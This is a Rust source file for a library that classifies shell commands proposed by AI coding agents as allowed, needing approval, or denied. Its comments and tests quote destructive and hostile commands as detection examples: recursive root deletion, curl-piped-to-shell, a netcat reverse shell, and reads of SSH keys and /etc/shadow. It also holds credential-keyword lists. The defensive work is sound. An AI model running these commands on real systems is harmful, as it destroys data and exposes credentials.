//! # shanalyze
//!
//! Decides whether a shell command an AI coding agent wants to run may run: **Allow**,
//! **Ask** (a person must approve) or **Deny**, and explains why.
//!
//! ```
//! use shanalyze::{Analyzer, Decision};
//!
//! let analyzer = Analyzer::new();
//! let report = analyzer.analyze("git status && rm -rf /");
//! assert_eq!(report.verdict, Decision::Deny);
//! assert_eq!(analyzer.analyze("ls -la | grep foo").verdict, Decision::Allow);
//! assert_eq!(analyzer.analyze("eval \"$x\"").verdict, Decision::Ask);
//! // Every reason has a stable code and the span of the text it is about.
//! let main = report.main_reason().unwrap();
//! assert_eq!(main.code, "delete.recursive-root");
//! ```
//!
//! ## Behind your own gate
//!
//! An agent runner, a CI step or a chat bot that already has a gate can put shanalyze in
//! front of it: analyse, run what is allowed, and show the explanation for the rest.
//!
//! ```
//! use shanalyze::{Analyzer, Decision, Policy, Workspace};
//!
//! let ws = Workspace { cwd: Some("/src/app".into()), root: Some("/src/app".into()), ..Workspace::default() };
//! let policy = Policy::from_toml("[rules]\nallow = [\"bash(npm test:*)\"]", "gate.toml".as_ref(), None).unwrap();
//! let analyzer = Analyzer::new().with_workspace(ws).with_policy(policy);
//! let gate = |command: &str| -> Result<(), String> {
//!     let report = analyzer.analyze(command);
//!     match report.verdict {
//!         Decision::Allow => Ok(()),
//!         // Ask your user, or refuse: the text says why and which rule would allow it.
//!         Decision::Ask | Decision::Deny => Err(shanalyze::explain::render(&report, false)),
//!     }
//! };
//! assert!(gate("npm test -- --ci").is_ok());
//! assert!(gate("sudo rm -rf /").unwrap_err().contains("delete.recursive-root"));
//! ```
//!
//! The public surface is small: [`Analyzer`] (workspace and [`Policy`] in, [`Report`]
//! out), [`Decision`], the [`Report`] contract (DESIGN §6; fields may be added, so its
//! structs are `#[non_exhaustive]`), [`explain::render`] for people, [`audit`] for whole
//! session logs, and [`reasons`] for the documented reason codes. The other modules are
//! public for tests and tools and may change.
//!
//! The pipeline (see ARCHITECTURE.md): `syntax` parses with tree-sitter-bash and `lower`s to
//! our IR; `resolve` finds every command position, through wrappers and nested shells;
//! `classify` applies the knowledge base and the default policy; `policy` applies user rules;
//! the [`Report`] folds it all, strictest decision first.

pub mod audit;
pub mod classify;
pub mod explain;
pub mod hooks;
pub mod hosts;
pub mod ir;
pub mod knowledge;
pub mod paths;
pub mod policy;
pub mod reasons;
pub mod report;
pub mod resolve;
pub mod syntax;
pub mod words;

pub use paths::Workspace;
pub use policy::Policy;
pub use report::{Decision, InvocationReport, Reason, Report};

use report::RedirectReport;

/// Analyses commands against a workspace and, optionally, a user [`policy::Policy`].
/// Cheap to create and to clone (the policy is shared).
#[derive(Debug, Clone, Default)]
pub struct Analyzer {
    workspace: Workspace,
    /// `None` when no policy applies: evaluation then costs nothing.
    policy: Option<std::sync::Arc<policy::Policy>>,
}

impl Analyzer {
    /// An analyser with no workspace (relative paths are judged as unknown) and no policy.
    pub fn new() -> Analyzer {
        Analyzer::default()
    }

    /// Sets the working directory and workspace root paths are judged against.
    pub fn with_workspace(mut self, workspace: Workspace) -> Analyzer {
        self.workspace = workspace;
        if let Some(p) = self.policy.clone() {
            self.add_extra_roots(&p);
        }
        self
    }

    /// Applies a user policy (rules, defaults, extra roots). An empty policy is dropped.
    pub fn with_policy(mut self, policy: policy::Policy) -> Analyzer {
        if policy.is_empty() {
            self.policy = None;
            return self;
        }
        self.add_extra_roots(&policy);
        self.policy = Some(std::sync::Arc::new(policy));
        self
    }

    /// The user policy in force, if any.
    pub fn policy(&self) -> Option<&policy::Policy> {
        self.policy.as_deref()
    }

    fn add_extra_roots(&mut self, policy: &policy::Policy) {
        for root in &policy.extra_roots {
            if !self.workspace.extra_roots.contains(root) {
                self.workspace.extra_roots.push(root.clone());
            }
        }
    }

    /// The workspace paths are judged against.
    pub fn workspace(&self) -> &Workspace {
        &self.workspace
    }

    /// Analyses one command text.
    pub fn analyze(&self, command: &str) -> Report {
        let mut report = self.analyze_once(command);
        salvage_lines(self, command, &mut report);
        report
    }

    fn analyze_once(&self, command: &str) -> Report {
        let script = syntax::lower::lower(command, 0, None);
        let resolved = resolve::resolve(&script);
        build_report(command, &resolved, &self.workspace, self.policy.as_deref())
    }
}

/// A syntax error can swallow what follows it (`case` nested in `case` trips the grammar, and
/// the `rm -rf /` on the next line vanishes into the ERROR node). When the text does not
/// parse, each line is also judged alone, and a Deny found in any line is kept: the verdict
/// is Ask already (a parse error), and a catastrophic line should not hide behind a broken
/// one. Bounded: 200 lines of at most 4 KiB, only for texts that failed to parse.
fn salvage_lines(analyzer: &Analyzer, command: &str, report: &mut Report) {
    const MAX_LINES: usize = 200;
    const MAX_LINE: usize = 4096;
    let parse_error = report.reasons.iter().any(|r| r.code == "opaque.parse-error");
    if !parse_error || report.verdict == Decision::Deny || !command.contains('\n') {
        return;
    }
    let mut offset = 0;
    for line in command.split('\n').take(MAX_LINES) {
        let start = offset;
        offset += line.len() + 1;
        if line.trim().is_empty() || line.len() > MAX_LINE {
            continue;
        }
        let part = analyzer.analyze_once(line);
        if part.verdict != Decision::Deny {
            continue;
        }
        for mut r in part.reasons.into_iter().filter(|r| r.decision == Decision::Deny) {
            let shift = u32::try_from(start).unwrap_or(u32::MAX);
            r.span = ir::Span { start: r.span.start.saturating_add(shift), end: r.span.end.saturating_add(shift) };
            r.message = format!(
                "{} (line {} judged alone: the text around it does not parse)",
                r.message,
                command[..start].matches('\n').count() + 1
            );
            report.reasons.insert(0, r);
        }
        report.verdict = Decision::Deny;
    }
}

/// Analyses one command with the default policy and no workspace information.
pub fn analyze(command: &str) -> Report {
    Analyzer::new().analyze(command)
}

fn build_report(
    command: &str,
    resolved: &resolve::Resolved,
    ws: &Workspace,
    policy: Option<&policy::Policy>,
) -> Report {
    let invocations = &resolved.invocations;
    let mut outcomes: Vec<classify::Outcome> = invocations.iter().map(|inv| classify::classify(inv, ws)).collect();
    network_fed_code(invocations, &mut outcomes);
    shell_into_network(invocations, &mut outcomes);
    listing_fed_recursive_delete(invocations, &mut outcomes, ws);
    downloaded_then_run(invocations, &mut outcomes, ws);
    secret_operands_from_input(invocations, &mut outcomes, ws);
    let rules = policy.map(|p| p.apply(invocations, &mut outcomes, ws)).unwrap_or_default();

    let mut reasons: Vec<Reason> = Vec::new();
    let mut verdict = Decision::Allow;
    for f in &resolved.findings {
        let decision = reasons::lookup(f.code).map(|r| r.decision).unwrap_or(Decision::Ask).max(Decision::Ask);
        verdict = verdict.max(decision);
        reasons.push(Reason { code: f.code, message: f.message.clone(), span: f.span, decision });
    }
    let mut reports = Vec::with_capacity(invocations.len());
    for (i, (inv, out)) in invocations.iter().zip(outcomes).enumerate() {
        verdict = verdict.max(out.decision);
        for r in &out.reasons {
            if r.decision > Decision::Allow
                && !reasons.iter().any(|x| x.code == r.code && x.message == r.message)
                && reasons.len() < 200
            {
                reasons.push(r.clone());
            }
        }
        let mut report = invocation_report(inv, out);
        report.rule = rules.get(i).cloned().flatten();
        reports.push(report);
    }
    // The strictest reasons first, so the main reason carries the verdict.
    reasons.sort_by_key(|r| std::cmp::Reverse(r.decision));
    Report { command: command.to_string(), verdict, reasons, invocations: reports }
}

fn invocation_report(inv: &resolve::Invocation, out: classify::Outcome) -> InvocationReport {
    let opaque = out.effects.contains(&"opaque")
        || out.reasons.iter().any(|r| r.code.starts_with("opaque.") || r.code.starts_with("limit."));
    InvocationReport {
        argv: inv.argv.iter().map(|a| a.text.clone()).collect(),
        span: inv.span,
        via: inv.via.clone(),
        decision: out.decision,
        effects: out.effects,
        reasons: out.reasons,
        redirects: inv
            .redirects
            .iter()
            .map(|r| RedirectReport {
                op: r.op,
                fd: r.fd,
                target: r.target.as_ref().map(|t| t.text.clone()),
                access: r.access,
                span: r.span,
            })
            .collect(),
        paths: out.paths,
        hosts: out.hosts,
        opaque,
        rule: None,
    }
}

/// Code fed from the network (`curl | sh`, `sh -c "$(curl)"`, `bash <(wget -O- ..)`) is denied.
fn network_fed_code(invocations: &[resolve::Invocation], outcomes: &mut [classify::Outcome]) {
    let fetches = |range: (usize, usize), outcomes: &[classify::Outcome]| -> bool {
        (range.0..range.1.min(outcomes.len())).any(|i| outcomes[i].effects.contains(&"network"))
    };
    for (i, inv) in invocations.iter().enumerate() {
        let mut fed = inv.code_from.iter().any(|r| fetches(*r, outcomes));
        // Cheap test first: most piped stages are not fed by the network.
        if let Some(range) = inv.stdin_from
            && fetches(range, outcomes)
            && (inv.runs_stdin || runs_input_as_code(inv, &outcomes[i]))
        {
            fed = true;
        }
        if fed {
            let span = inv.span;
            outcomes[i].add("net.pipe-to-shell", "runs code fetched from the network", Decision::Deny, span);
            outcomes[i].effect("exec");
        }
    }
}

/// Does this command run what it reads on stdin as code? Beyond shells and interpreters
/// (`runs_stdin`): text run at run time (`eval "$line"`, `xargs -I{} sh -c {}`), awk's
/// `system()` and sed's `e` (their programs run input lines), and tools whose stdin is a
/// script or a job: `at`, `batch`, `crontab -`, `m4`, `dc`, `gdb`, `expect`, `osascript`,
/// `jshell`, `su`, `php`, `Rscript -`, `make -f -`, and `$SHELL`.
fn runs_input_as_code(inv: &resolve::Invocation, outcome: &classify::Outcome) -> bool {
    let has = |code: &str| outcome.reasons.iter().any(|r| r.code == code);
    if has("opaque.dynamic-script") {
        return true;
    }
    // A command name known only at run time (`$SHELL`, `${SHELL:-sh}`, `$(which bash)`,
    // `$c` read from the input) may well be a shell.
    let Some(name) = inv.name() else { return true };
    let name = name.rsplit('/').next().unwrap_or(name);
    let operands: Vec<&str> =
        inv.argv[1..].iter().map(|a| a.value().unwrap_or("?")).filter(|v| *v == "-" || !v.starts_with('-')).collect();
    let flag = |f: &str| inv.argv[1..].iter().any(|a| a.value().is_some_and(|v| v.starts_with('-') && v.contains(f)));
    let stdin_script = operands.is_empty() || operands == ["-"];
    match name {
        "awk" | "gawk" | "mawk" | "nawk" | "sed" | "gsed" => has("exec.flag"),
        "at" | "batch" | "gdb" | "jshell" | "su" => true,
        "fish" | "csh" | "tcsh" | "pypy" | "pypy3" => stdin_script,
        // `python3 -c 'exec(sys.stdin.read())'`, `perl -ne 'system $_'`: inline code that runs
        // what it reads.
        "python" | "python3" | "perl" | "ruby" | "node" | "lua" => inline_runs_input(inv),
        "crontab" => stdin_script && !flag("l") && !flag("r") && !flag("e"),
        "m4" | "dc" | "expect" | "osascript" => stdin_script,
        "php" => stdin_script || inline_runs_input(inv),
        "Rscript" | "deno" => operands.contains(&"-"),
        "make" | "gmake" => {
            inv.argv
                .windows(2)
                .any(|w| matches!(w[0].value(), Some("-f" | "--file" | "--makefile")) && w[1].value() == Some("-"))
                || inv.argv.iter().any(|a| matches!(a.value(), Some("-f-" | "--file=-" | "--makefile=-")))
        }
        _ => false,
    }
}

/// `ls / | xargs rm -rf`, `cd / && ls | xargs rm -rf`, `find ~ -maxdepth 1 | xargs rm -rf`: a
/// recursive delete whose operands are the listing of `/`, home or a system directory
/// destroys it, like `rm -rf /*`.
fn listing_fed_recursive_delete(
    invocations: &[resolve::Invocation],
    outcomes: &mut [classify::Outcome],
    ws: &Workspace,
) {
    for (i, inv) in invocations.iter().enumerate() {
        if !inv.extra_operands {
            continue;
        }
        let name = inv.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
        let recursive = inv.argv.iter().skip(1).any(|a| {
            a.value().is_some_and(|v| {
                v == "--recursive" || (v.starts_with('-') && !v.starts_with("--") && v.contains(['r', 'R']))
            })
        });
        if !inv.extra_operands || !matches!(name, "rm" | "shred") || !recursive {
            continue;
        }
        let Some((a, b)) = inv.stdin_from else { continue };
        for feeder in &invocations[a..b.min(invocations.len())] {
            let fname = feeder.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
            // Only listings of everything: `ls DIR`, or `find DIR` with no test but depth.
            let values: Vec<&str> = feeder.argv.iter().skip(1).map(|x| x.value().unwrap_or("?")).collect();
            let find_all = fname == "find"
                && values.iter().all(|v| !v.starts_with('-') || matches!(*v, "-maxdepth" | "-mindepth"));
            if fname != "ls" && !find_all {
                continue;
            }
            let dirs: Vec<&resolve::Arg> = feeder
                .argv
                .iter()
                .skip(1)
                .filter(|x| x.value().is_some_and(|v| !v.starts_with('-') && !v.bytes().all(|b| b.is_ascii_digit())))
                .collect();
            let here = resolve::Arg::lit(".", feeder.span);
            let dirs = if dirs.is_empty() { vec![&here] } else { dirs };
            for d in dirs {
                let p = classify::resolve_path(feeder, ws, d);
                if p.dynamic {
                    continue;
                }
                if let Some((code, what)) = knowledge::coreutils::catastrophic_target(&p.path) {
                    let message = format!("recursive delete of everything `{fname}` lists in `{what}`");
                    outcomes[i].add(code, message, Decision::Deny, inv.span);
                }
            }
        }
    }
}

/// Inline interpreter code that runs what it computes (`exec(sys.stdin.read())`,
/// `system $_`, `eval`): with the input from the network, network code runs.
fn inline_runs_input(inv: &resolve::Invocation) -> bool {
    inv.argv.iter().skip(1).any(|a| {
        let t = a.value().unwrap_or(&a.text);
        ["exec(", "eval", "system", "`", "spawn", "popen", "child_process"].iter().any(|k| t.contains(k))
    })
}

/// `mkfifo f; cat f | sh -i 2>&1 | nc host 4444 > f`: a shell whose output goes to a network
/// connection (and whose input comes back from it) is a reverse shell.
fn shell_into_network(invocations: &[resolve::Invocation], outcomes: &mut [classify::Outcome]) {
    for (i, inv) in invocations.iter().enumerate() {
        let Some((a, b)) = inv.stdin_from else { continue };
        let name = inv.name().map(|n| n.rsplit('/').next().unwrap_or(n)).unwrap_or("");
        if !matches!(name, "nc" | "ncat" | "netcat" | "telnet" | "socat") || !outcomes[i].effects.contains(&"network") {
            continue;
        }
        let shell_upstream = invocations[a..b.min(invocations.len())]
            .iter()
            .any(|u| u.name().is_some_and(|n| resolve::is_shell(n.rsplit('/').next().unwrap_or(n))));
        if shell_upstream {
            outcomes[i].add(
                "net.reverse-shell",
                "a shell's output is sent to a network connection",
                Decision::Deny,
                inv.span,
            );
        }
    }
}

/// `curl -o x.sh URL && bash x.sh`, `wget URL/i.sh; sh i.sh`: a file written by a network
/// command and then run as code is network-fed code too.
fn downloaded_then_run(invocations: &[resolve::Invocation], outcomes: &mut [classify::Outcome], ws: &Workspace) {
    let mut downloaded: Vec<String> = Vec::new();
    for (i, inv) in invocations.iter().enumerate() {
        if let Some(file) = &inv.runs_file {
            let path = classify::resolve_path(inv, ws, file).path;
            let base = path.rsplit('/').next().unwrap_or(&path).to_string();
            let hit = downloaded.iter().any(|d| *d == path || (!d.contains('/') && *d == base));
            if hit {
                let message = format!("runs `{}`, downloaded from the network", file.text);
                outcomes[i].add("net.pipe-to-shell", message, Decision::Deny, inv.span);
            }
        }
        // `curl URL | tee f`: what tee writes came from the network.
        let fed_by_network = inv
            .stdin_from
            .is_some_and(|(a, b)| (a..b.min(outcomes.len())).any(|j| outcomes[j].effects.contains(&"network")))
            && inv.name().is_some_and(|n| n.rsplit('/').next() == Some("tee"));
        if !outcomes[i].effects.contains(&"network") && !fed_by_network {
            continue;
        }
        for p in &outcomes[i].paths {
            if p.access == "write" {
                downloaded.push(p.path.clone());
            }
        }
        // `wget URL` and `curl -O URL` save under the URL's last path segment.
        let name = inv.argv.first().and_then(|a| a.value()).unwrap_or("");
        let flag = |pred: &dyn Fn(&str) -> bool| inv.argv.iter().any(|a| a.value().is_some_and(pred));
        let saves_by_name = (name == "wget" && !flag(&|v| v.starts_with("-O") || v.starts_with("--output-document")))
            || (name == "curl"
                && flag(&|v| v == "--remote-name" || (v.starts_with('-') && !v.starts_with("--") && v.contains('O'))));
        if saves_by_name {
            for a in &inv.argv[1..] {
                if let Some(v) = a.value().filter(|v| v.contains("://")) {
                    let file = v.split(['?', '#']).next().unwrap_or(v).rsplit('/').next().unwrap_or("");
                    if !file.is_empty() {
                        downloaded.push(file.to_string());
                    }
                }
            }
        }
    }
}

/// `find . -name '.env*' | xargs cat`, `find ~/.ssh -exec cat {} +`: a reader whose operands
/// arrive at run time reads secrets when what feeds it names them.
fn secret_operands_from_input(invocations: &[resolve::Invocation], outcomes: &mut [classify::Outcome], ws: &Workspace) {
    for (i, inv) in invocations.iter().enumerate() {
        let reads_redirect = inv.redirects.iter().any(|r| r.access == ir::Access::Read);
        if !outcomes[i].effects.contains(&"read") && !reads_redirect {
            continue;
        }
        // `cat $(echo /etc/shadow)`: an operand made by a substitution that names a secret.
        // `cat < $(echo /etc/shadow)`: the same for a redirect target.
        let targets = inv.redirects.iter().filter_map(|r| r.target.as_ref());
        let from_subs: Vec<(usize, usize)> =
            inv.argv.iter().skip(1).chain(targets).filter(|a| a.value.is_none()).filter_map(|a| a.subs).collect();
        let named = from_subs
            .iter()
            .flat_map(|&(a, b)| invocations[a..b.min(invocations.len())].iter())
            .flat_map(|other| other.argv.iter().skip(1))
            .find(|a| names_secret(a, ws));
        if let Some(arg) = named {
            let message = format!("reads a path made at run time from `{}`", arg.text);
            outcomes[i].add("read.secret", message, Decision::Ask, inv.span);
            outcomes[i].effect("secret");
        } else if let Some(reader) = from_subs
            .iter()
            .flat_map(|&(a, b)| invocations[a..b.min(invocations.len())].iter())
            .find(|other| prints_file_content(other))
        {
            // `cat $(cat list.txt)`: the names are data from a file, known only at run time.
            let mut shown = reader.argv.iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
            if shown.is_empty() {
                let target = reader.redirects.iter().find_map(|r| r.target.as_ref()).map(|t| t.text.as_str());
                shown = format!("< {}", target.unwrap_or("?"));
            }
            let message = format!("reads files whose names are the output of `{shown}`, known only at run time");
            outcomes[i].add("read.unknown-path", message, Decision::Ask, inv.span);
            outcomes[i].effect("secret");
        }
        if !inv.extra_operands {
            continue;
        }
        let feeders = invocations.iter().enumerate().filter(|(j, other)| {
            *j != i && (other.span == inv.span || inv.stdin_from.is_some_and(|(a, b)| (a..b).contains(j)))
        });
        let feeders: Vec<&resolve::Invocation> = feeders.map(|(_, other)| other).collect();
        let named_secret = feeders.iter().flat_map(|other| other.argv.iter().skip(1)).find(|a| names_secret(a, ws));
        if let Some(arg) = named_secret {
            let message = format!("reads files chosen at run time from input that names `{}`", arg.text);
            outcomes[i].add("read.secret", message, Decision::Ask, inv.span);
            outcomes[i].effect("secret");
        } else if let Some(why) = feeders.iter().find_map(|f| find_may_list_secrets(f, ws, dumps_content(inv))) {
            outcomes[i].add("read.secret", format!("reads files chosen at run time by {why}"), Decision::Ask, inv.span);
            outcomes[i].effect("secret");
        }
    }
}

/// A `find` that may list secret files for a reader (`find ~ -exec cat {} +`, `find . -name
/// '*env' | xargs cat`): one that starts in a tree holding keys (`~`, `/`, `/root`, ...)
/// without a `-name`/`-path` filter, or whose filter may match a secret. find's patterns
/// match dotfiles with a leading `*` (`*env` matches `.env`), unlike the shell's.
/// Does this invocation print the content of files or of the network (data, not a listing of
/// names)? `cat list.txt` does; `find`, `ls`, `git ls-files`, `grep -l` print names.
fn prints_file_content(inv: &resolve::Invocation) -> bool {
    let name = inv.name().unwrap_or("");
    matches!(
        name.rsplit('/').next().unwrap_or(name),
        "cat"
            | "head"
            | "tail"
            | "sed"
            | "awk"
            | "cut"
            | "jq"
            | "yq"
            | "curl"
            | "wget"
            | "tac"
            | "paste"
            | "sort"
            | "uniq"
    ) || inv.argv.is_empty() && inv.redirects.iter().any(|r| r.op == "<")
}

/// Prints whole files (`cat`, `head`, `base64`, ...), not just matches, counts or names.
fn dumps_content(inv: &resolve::Invocation) -> bool {
    let name = inv.name().unwrap_or("");
    matches!(
        name.rsplit('/').next().unwrap_or(name),
        "cat"
            | "bat"
            | "batcat"
            | "head"
            | "tail"
            | "tac"
            | "nl"
            | "less"
            | "more"
            | "most"
            | "strings"
            | "xxd"
            | "od"
            | "hexdump"
            | "base64"
            | "base32"
            | "awk"
            | "sed"
            | "paste"
            | "pr"
            | "cut"
            | "sort"
            | "uniq"
    )
}

/// With `dumper` (the reader prints whole files), an unfiltered `find` of any directory may
/// list `.env` and friends too (`find . | xargs cat`).
fn find_may_list_secrets(inv: &resolve::Invocation, ws: &Workspace, dumper: bool) -> Option<String> {
    let name = inv.name()?;
    let base = name.rsplit('/').next().unwrap_or(name);
    // `ls -A | xargs cat`: a listing that includes dotfiles, into a whole-file printer.
    if base == "ls" {
        let all = inv.argv.iter().skip(1).any(|a| {
            a.value().is_some_and(|v| {
                v == "--all"
                    || v == "--almost-all"
                    || (v.starts_with('-') && !v.starts_with("--") && v.contains(['a', 'A']))
            })
        });
        return (dumper && all).then(|| "`ls -a`, which lists `.env` and keys too".to_string());
    }
    if base != "find" {
        return None;
    }
    let values: Vec<&str> = inv.argv.iter().skip(1).map(|a| a.value().unwrap_or(&a.text)).collect();
    let mut filtered = false;
    for w in values.windows(2) {
        match w[0] {
            "-name" | "-iname" | "-path" | "-ipath" | "-wholename" | "-iwholename" => {
                filtered = true;
                let pattern = w[1];
                let dotted = format!(".{pattern}");
                let may = |p: &str| {
                    paths::glob_may_be_secret(p) || ws.classify(&paths::normalize(p), true) == paths::PathClass::Secret
                };
                if may(pattern) || (pattern.starts_with('*') && may(&dotted)) {
                    return Some(format!("`find {} {pattern}`, which may match credentials", w[0]));
                }
            }
            "-regex" | "-iregex" => {
                filtered = true;
                let lower = w[1].to_ascii_lowercase();
                const HINTS: &[&str] =
                    &["env", "id_", "ssh", "aws", "pem", "key", "secret", "token", "cred", "shadow", "netrc", "pgpass"];
                if HINTS.iter().any(|h| lower.contains(h)) {
                    return Some(format!("`find {} {}`, which may match credentials", w[0], w[1]));
                }
            }
            _ => {}
        }
    }
    if filtered {
        return None;
    }
    if dumper {
        return Some("an unfiltered `find`, which lists `.env` and keys too".to_string());
    }
    const TREES: &[&str] = &["~", "/", "/root", "/home", "/Users", "/proc", "/run/secrets", "/var/run/secrets"];
    let home = ws.home.as_deref().map(|h| h.trim_end_matches('/'));
    values.iter().take_while(|v| !v.starts_with('-')).find_map(|v| {
        let p = paths::normalize(v);
        let p = p.trim_end_matches('/');
        let p = if p.is_empty() { "/" } else { p };
        (TREES.contains(&p) || home == Some(p)).then(|| format!("`find {v}`, every file under it, keys included"))
    })
}

/// Does an argument, read as a path or glob, name a secret?
fn names_secret(arg: &resolve::Arg, ws: &Workspace) -> bool {
    let text = arg.value().unwrap_or(&arg.text);
    let glob = arg.glob || text.contains(['*', '?']);
    ws.classify(&paths::normalize(text), glob) == paths::PathClass::Secret
}
